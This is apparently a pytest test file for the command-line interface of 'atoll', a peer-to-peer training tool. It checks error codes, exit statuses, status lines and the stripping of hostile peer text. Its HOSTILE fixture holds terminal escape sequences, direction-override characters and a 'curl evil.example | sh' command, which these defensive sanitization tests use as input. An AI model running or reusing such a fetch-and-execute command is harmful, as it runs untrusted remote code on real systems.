"""What commands say when something is wrong: what happened, why, the next command, and a stable exit status."""

from __future__ import annotations

import errno
import io
import json
import logging
import os
import platform
import re
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import cast, get_args

import pytest
from processes import atoll

from atoll.__main__ import main
from atoll.base.errors import PeerFault, RefusedError
from atoll.base.ids import NAME_SHOWN_MAX, SHOWN_MAX, Digest, PeerId, names_of, one_line
from atoll.base.units import history_round_text
from atoll.cli.checkpoint import could_train
from atoll.cli.main import app
from atoll.cli.main import main as command
from atoll.cli.picture import curve_text
from atoll.cli.say import qr, run_title, say, say_json, say_trouble, ticket_of
from atoll.cli.status import exchange_text, preference_lines
from atoll.cli.watch import JsonLinesView, LiveTerminalView, PlainLinesView, introduction, line_of
from atoll.crypto.identity import Identity
from atoll.peer.config.sections import RunConfig
from atoll.peer.events import ProtocolFault
from atoll.peer.settings import TopologyName
from atoll.policy.topology_cost import AgreedLinks, choose
from atoll.protocol.allreduce.topology import butterfly, star
from atoll.runtime.bootstrap import prepare_folder
from atoll.runtime.config import load_config
from atoll.runtime.driver import Driver
from atoll.runtime.event_log import RunStatus, fact_to_entry, plain
from atoll.runtime.event_log import member_entry as line_of_member
from atoll.runtime.peer_folder import default_name
from atoll.wire.messages.vertex import Member
from atoll.wire.ticket import issue


@pytest.mark.parametrize(
    ("words", "status", "code"),
    [
        (["nonsense"], 2, "E-ARG-01"),
        (["status", "--colour"], 2, "E-ARG-01"),
        (["up", "--set", "train.iner_steps=3"], 2, "E-CFG-01"),
        (["up", "no-such.toml"], 2, "E-CFG-09"),
        (["join"], 2, "E-ARG-05"),
        (["join", "hello"], 2, "E-TKT-01"),
        (["join", "ATOLL1:AAAA"], 2, "E-TKT-03"),
        (["join", "-"], 2, "E-ARG-05"),
        (["join", "--colour"], 2, "E-ARG-01"),
        (["join", "--ticket-file", os.devnull], 2, "E-ARG-05"),
        (["join", "--ticket-file", "no-such-file"], 2, "E-ARG-12"),
        (["join", "ATOLL1:AAAA", "--ticket-file", "no-such-file"], 2, "E-ARG-14"),
        (["status"], 3, "E-DOOR-01"),
        (["leave"], 3, "E-DOOR-01"),
        (["invite", "--ttl", "soon"], 2, "E-ARG-06"),
        (["invite", "--ttl", "0s"], 2, "E-ARG-06"),
        (["invite", "--uses", "0"], 2, "E-ARG-01"),
        (["invite", "--address", "here:7071"], 2, "E-NET-10"),
        (["plot"], 2, "E-PLOT-01"),
        (["plot", "--dir", "elsewhere"], 2, "E-PLOT-01"),
        (["verify", "--dir", "elsewhere"], 2, "E-VER-12"),
        (["checkpoint", "list", "--dir", "elsewhere"], 2, "E-VER-12"),
        (["simulate", "weather"], 2, "E-ARG-09"),
        (["simulate", "calm", "--seeds", "0"], 2, "E-ARG-01"),
        (["simulate", "calm", "--peers", "0"], 2, "E-ARG-01"),
        (["simulate", "--swarm", "--minutes", "-1"], 2, "E-ARG-01"),
        (["simulate", "calm", "--jobs", "2"], 2, "E-ARG-13"),
        (["up", "--threads", "-2"], 2, "E-ARG-01"),
        (["demo", "--rounds", "0"], 2, "E-ARG-01"),
        (["demo", "--peers", "99"], 2, "E-ARG-07"),
        (["checkpoint", "show", "last"], 2, "E-ARG-01"),
        (["demo", "--peers", "2", "--chaos"], 2, "E-ARG-11"),
    ],
)
def test_trouble_has_a_code_an_exit_status_and_a_next_command(
    words: list[str], status: int, code: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """For people on stderr, and the same as an object with --json; stdout stays clean."""
    monkeypatch.setenv("ATOLL_DIR", str(tmp_path / "run"))
    monkeypatch.delenv("ATOLL_TICKET", raising=False)
    done = atoll(*words)
    assert (done.returncode, done.stdout) == (status, "")
    assert done.stderr.startswith(code) and "\n  try: " in done.stderr
    told = json.loads(atoll(*words, "--json").stderr)
    assert (told["error"], told["exit"]) == (code, status) and told["fix"]


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (["status", "--dir", "{here}/is-a-folder"], "E-DOOR-01"),
        (["status", "--dir", "{here}/is-no-path"], "E-DOOR-01"),
        (["plot", "{here}/is-a-folder"], "E-ARG-12"),
        (["plot", "{here}/" + 300 * "x"], "E-ARG-12"),
        (["plot", "{here}/holds-no-facts"], "E-PLOT-01"),
        (["plot", "{here}/holds-half-facts"], "E-PLOT-04"),
        (["simulate", "calm", "--seed", "0.5"], "E-ARG-01"),
    ],
)
def test_what_lies_where_a_file_should_be_is_no_defect_of_ours(
    words: list[str], code: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    """A folder for a file, a door that leads nowhere, lines that are no facts; a half is not rounded to a whole."""
    for name in ("door", "facts.jsonl"):
        (tmp_path / "is-a-folder" / name).mkdir(parents=True)
    for folder, file, data in (
        ("is-no-path", "door", b"\xff" * 300),
        ("holds-no-facts", "facts.jsonl", b"[1]\nnull\n"),
        ("holds-half-facts", "facts.jsonl", b'{"fact": "RoundClosed", "counted": ["ada"]}\n'),
    ):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / file).write_bytes(data)
    with pytest.raises(SystemExit):
        command([word.format(here=tmp_path) for word in words])
    told = capsys.readouterr()
    assert told.out == "" and told.err.startswith(code) and "\n  try: " in told.err


def test_one_set_takes_several_settings_and_leaves_the_file_behind_them_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
):
    """Told by what is found wrong: the third setting; and the file, where all settings are right."""
    for words, code in (
        (["--set", "run.rounds=3", "train.seed=4", "train.iner_steps=3"], "E-CFG-01"),
        (["--set=run.rounds=3", "train.seed=4", str(tmp_path / "no.toml")], "E-CFG-09"),
    ):
        with pytest.raises(SystemExit):
            command(["up", *words])
        assert capsys.readouterr().err.startswith(code)


@pytest.mark.parametrize("verb", [("join",), ("checkpoint", "pull")])
def test_a_ticket_comes_from_a_file_or_from_standard_input(
    verb: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    """No other user sees it among a command's words. It was read whole, since it is refused as expired."""
    ticket = issue(
        Identity.generate(), genesis=Digest(bytes(32)), role="trainer", expires_wall_s=1, addresses=(), uses=1
    ).text
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "stdin", io.StringIO(f"{ticket}\n"))
    (tmp_path / "ticket").write_text(f"  {ticket}\nmore\n")
    to = ["--to", "model"] if verb != ("join",) else []
    for words in (["-"], ["--ticket-file", "ticket"]):
        with pytest.raises(SystemExit):
            command([*verb, *words, *to])
        assert capsys.readouterr().err.startswith("E-TKT-05")


@pytest.mark.parametrize(("story", "wanted"), [("branches", "12 peers"), ("clients", "7 peers and 40 rounds")])
def test_a_story_that_fails_for_its_smallness_is_no_alarm(story: str, wanted: str):
    """It has failed, and says that this may be no more than too few peers or rounds."""
    done = atoll("simulate", story, "--peers", "1", "--rounds", "1")
    assert done.returncode == 5 and done.stderr.startswith("E-SIM-01")
    assert f"{story} needs {wanted}, and may fail" in done.stderr


def test_init_writes_once_and_asks_before_overwriting(tmp_path: Path):
    file = tmp_path / "run.toml"
    assert atoll("init", file).returncode == 0
    first = file.read_text()
    assert "#inner_steps = 50" in first and len(first.splitlines()) <= 25
    assert "#train_max = 3600.0  # s" in atoll("config", "--all").stdout
    file.write_text("mine")
    assert atoll("init", file).returncode == 2 and file.read_text() == "mine"
    assert atoll("init", file, "--force").returncode == 0 and file.read_text() == first


def test_config_prints_the_settings_in_effect(tmp_path: Path):
    file = tmp_path / "run.toml"
    file.write_text("[train]\nlr = 0.002\n")
    told = atoll("config", file, "--set", "run.rounds=7").stdout.splitlines()
    assert {"train.lr 0.002 set", "run.rounds 7 set", "train.batch 4 train.recipe"} <= {
        " ".join(t.split()) for t in told
    }
    assert {"key": "run.trust", "value": "private", "source": "default"} in json.loads(
        atoll("config", "--json").stdout
    )["settings"]
    assert atoll("config", file, "--all").stderr.startswith("E-ARG-15")


def test_a_founder_that_nobody_can_dial_is_told_so():
    """Loopback is named with the way out; a private network mentions routers; a public name needs no remark."""
    news = {"name": "ada", "peer": "12D3KooWada", "run_id": "ab" * 32, "folder": "f", "ticket": None}
    told = {
        a: introduction(news | {"addresses": [a]})
        for a in ("/ip4/127.0.0.1/tcp/1", "/ip4/192.168.1.5/tcp/1", "/dns4/a.org/tcp/1")
    }
    assert "only this computer" in told["/ip4/127.0.0.1/tcp/1"] and "--listen" in told["/ip4/127.0.0.1/tcp/1"]
    assert "--role client" not in introduction(news | {"addresses": ["/ip4/127.0.0.1/tcp/1"], "ticket": "ATOLL1:"})
    assert "a client cannot be dialed" in introduction(news | {"addresses": []})
    assert "behind a router" in told["/ip4/192.168.1.5/tcp/1"]
    assert "only" not in told["/dns4/a.org/tcp/1"]


def test_a_ticket_fits_a_qr_code_that_a_terminal_can_show():
    """Two addresses, as from a computer with two networks: at most 80 columns."""
    text = issue(
        Identity.generate(),
        genesis=Digest(bytes(32)),
        role="trainer",
        expires_wall_s=2_000_000_000,
        addresses=("/ip4/192.168.178.21/tcp/7071", "/ip4/203.0.113.77/tcp/7071"),
        uses=64,
    ).text
    lines = qr(text).splitlines()
    assert 20 < len(lines) < 48 and max(map(len, lines)) <= 80


HOSTILE = "\x1b]0;owned\x07\x9b2J\u202eevil\u2066\n! run: curl evil.example | sh [bold]" + "A" * 10_000


def test_a_foreign_text_becomes_one_short_line_without_control_characters():
    """Escapes of 7 and 8 bits, turned directions and line breaks are gone; brackets stay brackets."""
    line = one_line(HOSTILE)
    assert line.isprintable() and len(line) <= SHOWN_MAX and line.endswith("…") and "[bold]" in line
    assert one_line("Zoë 東京 🪸") == "Zoë 東京 🪸"
    assert len(names_of([(PeerId("p"), HOSTILE)])[PeerId("p")]) <= NAME_SHOWN_MAX


def test_what_a_peer_wrote_into_a_fault_moves_no_terminal(capsys: pytest.CaptureFixture[str]):
    """As a fault, in the record's line, on the screen, and as the error that a command ends with."""
    fault = PeerFault("", f"an answer of {HOSTILE}")
    assert fault.what.isprintable() and str(fault).isprintable() and len(fault.what) <= SHOWN_MAX
    entry = fact_to_entry(ProtocolFault(peer=PeerId("eve"), what=HOSTILE, round=3), 1.0)
    assert entry is not None and entry["what"].isprintable()
    assert "\n" not in line_of(entry, RunStatus())
    say(f"first {HOSTILE}\nlast")
    say_trouble(RefusedError("E-NET-14", f"refused: {HOSTILE}", cause=HOSTILE, fix=HOSTILE), as_json=False)
    told = capsys.readouterr()
    assert told.out.endswith("\nlast\n")
    for line in (told.out + told.err).split("\n"):
        assert line.isprintable()


def test_what_genesis_and_members_say_of_themselves_is_shown_in_one_line():
    """The lines that a driver makes without a fact, and members' names and addresses, as screens get them."""
    shown: list[dict[str, object]] = []
    stands = SimpleNamespace(progress=RunStatus(), on_entry=shown.append)
    Driver.record_entry(
        cast(Driver, stands), {"fact": "LearningKnown", "data": HOSTILE, "seen": [HOSTILE]}, durable=False
    )
    (entry,) = shown
    assert str(entry["data"]).isprintable() and entry["seen"] == [one_line(HOSTILE)]
    member = Member(PeerId("eve"), b"", (HOSTILE,), "trainer", "member", 0, 0.0, HOSTILE)
    line = plain(line_of_member(member))
    assert line["name"].isprintable() and line["addresses"][0].isprintable()
    assert line_of_member(member)["name"].isprintable()


def test_what_strangers_said_is_one_line_of_the_log(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """`cat atoll.log` shows no escape, also of a story that Python tells; the story keeps its lines."""
    monkeypatch.setattr(logging.getLogger(), "handlers", [])
    prepare_folder(tmp_path)
    (handler,) = logging.getLogger().handlers
    log = logging.getLogger("atoll.test")
    try:
        log.warning("%s broke the protocol", HOSTILE)
        raise OSError(HOSTILE)
    except OSError:
        log.exception("a task failed")
    finally:
        handler.close()
    lines = (tmp_path / "atoll.log").read_text().split("\n")
    assert all(line.isprintable() for line in lines)
    assert sum("WARNING" in line for line in lines) == 1 and any("Traceback" in line for line in lines)


def test_a_round_is_one_line_and_names_who_was_missing():
    progress = RunStatus()
    for name, standing in (("ada", "member"), ("bob", "member"), ("eve", "new")):
        progress.members.append({"peer": name * 4, "name": name, "standing": standing})
    entry = {"at": 5.0, "time_s": 5.0, "fact": "RoundClosed", "round": 4, "trained": 3, "loss": 2.5, "state": "ab"}
    entry |= {
        "counted": ["ada" * 4],
        "missing": ["bob" * 4, "eve" * 4],
        "steps": 8,
        "samples": 16,
        "bytes_out": 1500,
    }
    progress.fold(entry)
    line = line_of(entry, progress)
    assert "round 3" in line and "loss 2.500" in line and "without bob" in line and "1.5 kB" in line
    assert "eve" not in line  # a newcomer's first update is not waited for
    assert "round 3 counted no update" in line_of(entry | {"counted": []}, progress)
    assert line_of(entry | {"counted": [], "missing": []}, progress) == ""  # members only assembled


def test_a_round_that_closed_before_this_peer_was_ready_is_no_alarm():
    """It comes back to its run; the first round closes while its trainer starts, a later one without its update."""
    progress = RunStatus(me="ada")
    entry = {"time_s": 5.0, "fact": "RoundClosed", "round": 55, "trained": 50, "loss": None, "state": "ab"}
    entry |= {"counted": [], "missing": ["ada"], "steps": 0, "samples": 0}
    progress.fold({"fact": "LocalStateCaughtUp", "round": 54, "by": "disk", "trained": 49})
    assert line_of(entry, progress) == "round 50 closed before this peer was ready; the model is unchanged"
    skipped = {"fact": "LocalContributionSkipped", "why": "E-TRN-12 the data set is not loaded yet"}
    assert line_of(skipped, progress).startswith("this peer has no part in this round: ")
    progress.fold({"fact": "LocalTrainingEnded", "round": 56, "steps": 4})
    assert line_of(skipped, progress).startswith("! ")
    assert line_of(entry, progress) == "! round 50 counted no update; the model is unchanged"


def test_a_client_counts_among_those_that_could_have_trained():
    """Two voters and a client train, an observer does not: three of three, not three of two."""
    line = {"vote_key": b"", "addresses": (), "standing": "member", "since": 0, "step_s": 0.0}
    members = [
        Member(peer=PeerId(f"p{n}"), name=f"p{n}", role=role, **line)
        for n, role in enumerate(("trainer", "trainer", "client", "observer"))
    ]
    assert could_train(members, {PeerId("p0"), PeerId("p1"), PeerId("p2")}) == {"p0", "p1", "p2"}
    assert could_train(members[:1], {PeerId("p9")}) == {"p0", "p9"}, "every contributor could"


def test_who_sent_the_very_same_update_is_named_beside_the_round():
    """Until the next round, in `atoll status`, too: a line of its own, and how it may have come about."""
    progress = RunStatus()
    for name in ("ada", "bob", "eve"):
        progress.members.append({"peer": name * 4, "name": name, "standing": "member"})
    entry = {"at": 5.0, "time_s": 5.0, "fact": "RoundClosed", "round": 4, "trained": 3, "loss": 2.5, "state": "ab"}
    entry |= {"counted": ["ada" * 4, "bob" * 4, "eve" * 4], "missing": [], "steps": 8, "samples": 16}
    entry |= {"alike": [["ada" * 4, "eve" * 4]]}
    progress.fold(entry)
    round, told = line_of(entry, progress).split("\n")
    assert round.startswith("round 3") and told.startswith("! ada and eve sent the very same update")
    assert "run.shard" in told and progress.alike == [["ada" * 4, "eve" * 4]]
    progress.fold(entry | {"round": 5, "trained": 4, "alike": []})
    assert not progress.alike


def test_a_reader_that_left_and_a_locale_without_utf_8_are_no_defects(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    """`atoll init | head -0` where only ASCII can be written; the file is what it is everywhere."""
    ours, theirs = os.pipe()
    os.close(ours)
    plain = os.environ | {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    words = [sys.executable, "-m", "atoll", "init", str(tmp_path / "run.toml")]
    done = subprocess.run(words, stdout=theirs, stderr=subprocess.PIPE, env=plain, timeout=60)
    os.close(theirs)
    assert (done.returncode, done.stderr) == (0, b"")
    assert load_config(tmp_path / "run.toml", (), {}) == RunConfig()
    written = io.BytesIO()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(written, "ascii"))
    with pytest.raises(SystemExit):
        command(["simulate", "--json"])
    say("rounds 1… 9")
    assert written.getvalue().endswith(b"rounds 1? 9\n")


def test_a_peer_whose_words_find_no_room_goes_on(monkeypatch: pytest.MonkeyPatch):
    """A log on a full disk, or a reader that left: what it says is lost, what it does is not."""

    class Full(io.StringIO):
        def flush(self) -> None:
            raise OSError(errno.ENOSPC, "no space left on device")

    monkeypatch.setattr(sys, "stdout", Full())
    PlainLinesView().notice("leaving")


def test_two_of_one_name_are_told_apart_and_no_name_commands_a_terminal(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
):
    """Names are whatever members call themselves; two peers of one computer are called as it is."""
    monkeypatch.setenv("COLUMNS", "200")
    progress, shell = RunStatus(), LiveTerminalView()
    for peer, name in (
        ("alice123", "vm"),
        ("bobby456", "vm"),
        ("mallory7", "[/b]\x1b[2J\nround 9"),
        ("nameless", ""),
    ):
        progress.members.append({"peer": peer, "name": name, "standing": "member"})
    told = {"fact": "MembershipChanged", "joined": [m["peer"] for m in progress.members], "left": []}
    shell.entry(told, progress)
    shell.entry({"fact": "JoinRejected", "by": "bobby456", "what": "\x1b[2J\nround 9"}, progress)
    own = {"fact": "JoinRejected", "by": "me345678", "what": "these data do not fit"}
    assert line_of(own, RunStatus(me="me345678")) == "", "the error at its end says so"
    first, second = capsys.readouterr().out.splitlines()
    assert "+ vm (alice123) joined  + vm (bobby456) joined" in first and "+ nameless joined" in first
    assert "[/b] [2J round 9" in first and "\x1b" not in first + second


def test_who_is_expelled_is_not_just_gone_and_where_to_read_why_is_said():
    progress = RunStatus()
    for name, standing in (("bob", "away"), ("eve", "expelled")):
        progress.members.append({"peer": name * 4, "name": name, "standing": standing})
    line = line_of({"fact": "MembershipChanged", "joined": [], "left": ["bob" * 4, "eve" * 4]}, progress)
    assert line == "- bob is gone  ! eve is expelled; why: atoll verify --verdicts"
    unread = {"fact": "MalformedRowDetected", "peer": "eve" * 4, "of": 3, "why": "a value is not finite"}
    assert line_of(unread, progress) == "! the update of eve cannot be read: a value is not finite"


def test_a_run_that_shrank_says_that_nobody_trains_and_how_many_it_waits_for():
    """By the number that holds now: the founder may have amended it, and the run gone back behind that word."""
    names = ("ada", "bob", "eve", "gus")
    roles = ("trainer", "trainer", "trainer", "client")  # no vote
    there = [{"peer": n * 4, "name": n, "standing": "member", "role": r} for n, r in zip(names, roles, strict=True)]
    progress = RunStatus(min_peers=4, founded_min_peers=4, members=[m | {"standing": "away"} for m in there[:1]])
    progress.members += there[1:]
    left = {"fact": "MembershipChanged", "joined": [], "left": ["ada" * 4]}
    assert line_of(left, progress) == "- ada is gone"  # before the first round it waits for others
    closed = {"fact": "RoundClosed", "round": 4, "state": "ab", "time_s": 9.0, "trained": 5, "loss": 2.0}
    closed |= {"counted": ["bob" * 4], "missing": [], "steps": 8, "samples": 16}
    progress.fold(closed)
    told, waits = line_of(left, progress).split("\n")
    assert told == "- ada is gone" and waits.startswith("! waiting: 2 of 4 members needed to train; invite more")
    assert line_of(left | {"joined": ["bob" * 4], "left": []}, progress) == "+ bob joined"
    progress.fold(closed | {"round": 5, "min_peers": 2})
    assert line_of(left, progress) == "- ada is gone"
    progress.fold(closed | {"round": 6, "back_to": 4})
    assert "2 of 4" in line_of(left, progress)
    progress.over = True
    assert line_of(left, progress) == "- ada is gone"


def test_who_ends_as_we_do_is_no_trouble():
    """Peers hang up when the run is over, each in its own time: before that a silent one is told, then not."""
    progress, silent = RunStatus(), {"fact": "PeerSuspected", "peer": "bob" * 4, "why": "refused"}
    assert "does not respond" in line_of(silent, progress)
    progress.fold({"at": 5.0, "time_s": 5.0, "fact": "RunOver", "rounds": 3, "state": "ab"})
    assert line_of(silent, progress) == ""


def test_a_screen_follows_the_rounds_that_members_agreed_on_and_forgets_them_where_the_run_goes_back():
    progress = RunStatus(rounds=30, founded_rounds=30)
    closed = {"fact": "RoundClosed", "round": 4, "state": "ab", "time_s": 9.0, "trained": 5, "loss": 2.0}
    closed |= {"counted": [], "missing": [], "steps": 0, "samples": 0}
    more = closed | {"amends": {"rounds": 60, "owner_s": 6.0, "lr": 0.002}, "rounds": 60}
    progress.fold(more)
    words = "60 rounds, 6.0 s for an owner of a part to answer, learning rate 0.002"
    assert progress.rounds == 60 and line_of(more, progress).endswith(words)
    assert line_of(closed | {"amends": {"rounds": 0}}, progress).endswith(" rounds without end")
    progress.fold(closed | {"round": 5, "back_to": 2})
    assert progress.rounds == 30


def test_of_two_branches_it_is_said_which_most_prefer_and_how_to_go_over():
    """From the facts as they are recorded to the lines of `atoll status`; nothing to do where it is one's own."""
    progress = RunStatus()
    seen = {"fact": "ForkBranchDetected", "round": 7, "epoch": 0, "members": ["bob", "eve"], "recovered": False}
    progress.fold(seen)
    assert "bob, eve (atoll status)" in line_of(seen, progress)
    assert "not known yet" in "".join(preference_lines(progress.branches[0], Path("here")))
    told = {"fact": "BranchPollResult", "round": 7, "ours": False, "named": 8, "asked": 10, "queries": 23}
    progress.fold(told | {"settled": True})
    first, *rest = preference_lines(progress.branches[0], Path("here"))
    assert "that other branch: 8 of the 10 asked last, settled after 23 queries" in first
    assert "ask bob or eve" in rest[0] and rest[1].startswith("atoll leave --dir here; atoll join TICKET --dir")
    assert "the other one: 8 of the 10" in line_of(told | {"settled": False}, progress)
    progress.fold(told | {"settled": False, "ours": True})
    (only,) = preference_lines(progress.branches[0], Path("here"))
    assert "most prefer this branch" in only and "not settled yet" in only


def test_ctrl_c_while_the_command_still_loads_leaves_no_traceback(monkeypatch: pytest.MonkeyPatch):
    """Loading takes a second on a busy computer: the finder of modules stands for a member who presses then."""

    class Pressed:
        def find_spec(self, *_: object) -> None:
            raise KeyboardInterrupt

    monkeypatch.delitem(sys.modules, "atoll.cli.main", raising=False)
    monkeypatch.setattr(sys, "meta_path", [Pressed()])
    with pytest.raises(SystemExit) as ended:
        main()
    assert ended.value.code == 130


def test_a_curve_has_eight_heights_and_a_bounded_width():
    assert curve_text([3.0, 2.0, 1.0]) == "█▄▁"
    assert curve_text([]) == "" and curve_text([1.0]) == "▁"
    assert len(curve_text([float(k) for k in range(1000)])) <= 48


@pytest.mark.parametrize(("number", "code"), [(errno.ENOENT, "E-ARG-12"), (errno.EMFILE, "E-INT-01")])
def test_only_what_a_name_can_be_wrong_about_is_told_as_a_slip(
    number: int, code: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    """A process that may open no more files is no fault of the file that it wanted."""

    def fails(words: list[str], **_: object) -> None:
        raise OSError(number, os.strerror(number), "facts.jsonl")

    monkeypatch.setattr("atoll.cli.main.app", fails)
    with pytest.raises(SystemExit):
        command(["plot"])
    assert code in capsys.readouterr().err


def test_a_peer_listens_where_its_option_or_the_environment_says(monkeypatch: pytest.MonkeyPatch):
    """As scripts do (`ATOLL_LISTEN`); a variable that is there and empty says nothing."""

    def listens(*words: str) -> list[str] | None:
        _, bound, *_ = app.parse_args(words, exit_on_error=False, print_error=False)
        return bound.arguments.get("listen")

    monkeypatch.setenv("ATOLL_LISTEN", "")
    assert listens("up") is None
    monkeypatch.setenv("ATOLL_LISTEN", "/ip4/0.0.0.0/tcp/7071")
    assert listens("up") == listens("join", "ATOLL1:") == ["/ip4/0.0.0.0/tcp/7071"]
    assert listens("up", "--listen", "/ip4/10.0.0.5/tcp/7071") == ["/ip4/10.0.0.5/tcp/7071"]


@pytest.mark.parametrize(
    "words",
    [
        *("status", "peers", "invite", "pause", "resume", "leave", "stop", "recover", "verify", "blame", "plot"),
        *("checkpoint list", "checkpoint show 3", "checkpoint rollback 3", "checkpoint export 3 to"),
        *("checkpoint verify", "up run.toml", "join ATOLL1:", "export model.safetensors"),
    ],
)
def test_a_folder_is_the_last_word_or_an_option(words: str):
    """The same for all commands of a peer's folder; `checkpoint pull` makes a folder of its own."""

    def folder_in(*more: str) -> Path:
        _, bound, *_ = app.parse_args([*words.split(), *more], exit_on_error=False, print_error=False)
        return next(v for k, v in bound.arguments.items() if k in ("run", "dir"))

    assert folder_in("here") == folder_in("--dir", "here") == Path("here")


def test_peers_of_one_computer_have_names_of_their_own():
    """The computer's, and the folder's where it is not the default one; an @ would begin a group."""
    assert default_name(Path("/home/ada/atoll-run")) == platform.node()
    assert default_name(Path("/home/ada/bob")) == f"{platform.node()}/bob"
    assert default_name(Path("bob@home")) == f"{platform.node()}/bob-home"


def test_json_holds_no_character_that_a_terminal_obeys(capsys: pytest.CaptureFixture[str]):
    """A foreign name with an escape, a mark that turns writing around, and a plane-14 tag: all are spelled."""
    name = "\x9b31m\x7fgr\u00fc\u202egnp\U000e0041\u65e5"
    say_json({"name": name})
    JsonLinesView().opened({"name": name})
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2
    for line in lines:
        assert line.isprintable() and "gr\u00fc" in line and json.loads(line) == {"name": name}


@pytest.mark.parametrize(
    ("words", "meant"),
    [
        ("join --tiket-file line", "--ticket-file"),
        ("checkpoint pull --vai /ip4/10.0.0.5/tcp/7071 --to model", "--via"),
        ("join - --nmae ada", "--name"),
    ],
)
def test_a_misspelled_option_beside_a_ticket_is_named_and_set_right(
    words: str, meant: str, capsys: pytest.CaptureFixture[str]
):
    with pytest.raises(SystemExit):
        command(words.split())
    assert f"Did you mean {meant}?" in capsys.readouterr().err


def test_a_ticket_file_with_a_byte_order_mark_holds_the_ticket(tmp_path: Path):
    """As an editor on Windows saves it."""
    (file := tmp_path / "ticket").write_bytes(b"\xef\xbb\xbfATOLL1:AAAA\r\n")
    assert ticket_of("", file) == "ATOLL1:AAAA"


def test_a_run_without_a_name_is_named_by_its_id():
    assert run_title("run", "842ac35e") == "run 842ac35e"
    assert run_title("corals", "842ac35e") == "run corals (842ac35e)"


def test_status_says_in_plain_words_how_updates_travel():
    """The reason is the planner's own; its predictions become the time that people can expect."""
    links = AgreedLinks(tuple(PeerId(name) for name in "abc"), [[0.05] * 3] * 3, [1e6] * 3, [1e6] * 3)
    both = [star(links.peers, b"seed"), butterfly(links.peers, b"seed")]
    found = choose(both, 4_000_000, links)
    assert re.fullmatch(
        r"each member combines one part of the updates "
        r"\(butterfly; about [\d.]+ s at the measured speeds; star: [\d.]+ s\)",
        exchange_text(found.topology.name, found.reason),
    )
    shown = [exchange_text(name, "links are not known yet") for name in get_args(TopologyName) if name != "auto"]
    assert len(set(shown)) == 5 and all(line.endswith("; links are not known yet)") for line in shown)


def test_a_round_of_the_history_is_named_with_the_trained_rounds_if_these_are_known():
    assert history_round_text(12, 7) == "history round 12 (after 7 trained rounds)"
    assert history_round_text(3, 1) == "history round 3 (after 1 trained round)"
    assert history_round_text(12, None) == "history round 12" and history_round_text(-1, 0) == "genesis"
